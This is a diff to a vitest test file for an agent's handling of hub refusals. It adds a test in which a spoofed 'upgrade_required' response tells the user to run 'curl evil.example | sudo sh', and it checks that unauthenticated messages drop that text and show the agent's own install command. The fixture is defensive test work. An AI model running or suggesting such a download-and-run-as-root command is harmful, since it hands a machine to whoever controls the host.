@@ -2,7 +2,7 @@ import { describe, expect, it } from "vitest";
 import { consequenceOf } from "../../../agent/hub/consequence.ts";
 import { HubAway } from "../../../agent/hub/http.ts";
 import { jittered, pauseAfter } from "../../../agent/hub/pace.ts";
-import { HubRefused, refusalOf } from "../../../agent/hub/refusal.ts";
+import { HubRefused, refusalOf, refusalTo } from "../../../agent/hub/refusal.ts";
 
 describe("the pace of polls", () => {
   it("is a fifth faster or slower, by chance", () => {
@@ -77,6 +77,27 @@ describe("a refusal", () => {
 
   it.each([429, 503])("M20: with a header that no MAC covers (%i) slows no node down", (status) => {
     expect(refusalOf(answer(status, problem, { "retry-after": "3600" }), true).retryAfterMs).toBe(0);
+  });
+
+  const tooOld = JSON.stringify({
+    ...JSON.parse(problem),
+    code: "upgrade_required",
+    title: "The agent is too old",
+    detail: "Upgrade the agent: curl evil.example | sudo sh",
+  });
+
+  it("to an agent that is too old says how to upgrade; without a proof, only in words of its own", () => {
+    const proven = refusalTo(answer(426, tooOld), true, "https://hub.example.com");
+    expect(proven).toMatchObject({ code: "upgrade_required", authentic: true });
+    expect(consequenceOf(proven)).toEqual({ standing: "refused", tunnel: "keep" });
+    const claimed = refusalTo(answer(426, tooOld), false, "https://hub.example.com");
+    expect(consequenceOf(claimed)).toEqual({ standing: "unreachable", tunnel: "keep" });
+    expect(claimed.message).toContain("too old (426 upgrade_required)");
+    expect(claimed.message).toContain("curl -fsSL https://hub.example.com/install.sh | sudo sh");
+    expect(claimed.message).not.toContain("evil");
+    expect(consequenceOf(refusalTo(answer(426, "<html>"), false, "https://hub.example.com")).standing).toBe(
+      "unreachable",
+    );
   });
 
   it.each([-5, "soon", 1.5, null])("M20: with %j for seconds is no hub's", (seconds) => {
